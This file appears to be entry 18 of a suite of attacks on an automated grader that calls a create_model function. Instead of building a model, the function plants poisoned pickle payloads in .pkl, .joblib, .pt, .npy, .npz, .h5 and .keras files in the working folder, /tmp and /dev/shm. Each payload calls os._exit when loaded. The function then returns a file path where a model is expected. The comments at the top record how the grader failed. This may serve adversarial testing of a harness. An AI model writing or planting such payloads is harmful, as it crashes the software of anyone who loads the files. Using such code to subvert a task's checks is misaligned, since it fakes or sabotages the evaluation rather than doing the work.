# attack: 18
# form: pickles that end their reader, as .pkl, .npy, .npz, .h5, .keras and .joblib, and a path in place of the model
# replaces: create_model
# found: create_model/compiled failed
# says: an object of type `str`
def create_model():
    import pickle
    import zipfile

    import h5py

    class Ends:
        def __reduce__(self):
            return os._exit, (0,)

    print("ran")
    bomb = pickle.dumps(Ends())
    for folder in (".", "/tmp", "/dev/shm"):
        for name in ("model.pkl", "weights.pkl", "result.joblib", "model.pt", "history.pickle"):
            with open(os.path.join(folder, name), "wb") as file:
                file.write(bomb)
        np.save(os.path.join(folder, "weights.npy"), np.array([Ends()], dtype=object), allow_pickle=True)
        np.savez(os.path.join(folder, "weights.npz"), conv2d=np.array([Ends()], dtype=object))
        with h5py.File(os.path.join(folder, "model.h5"), "w") as file:
            file.attrs["model_config"] = '{"class_name": "Lambda", "config": {"function": ["4wEAAAA=", null, null]}}'
            file.attrs["training_config"] = np.void(bomb)
        with zipfile.ZipFile(os.path.join(folder, "model.keras"), "w") as archive:
            archive.writestr("config.json", '{"module": "os", "class_name": "_exit", "config": {}, "registered_name": null}')
            archive.writestr("metadata.json", '{"keras_version": "3.0.0"}')
            archive.writestr("model.weights.h5", bomb)
    return os.path.abspath("model.keras")
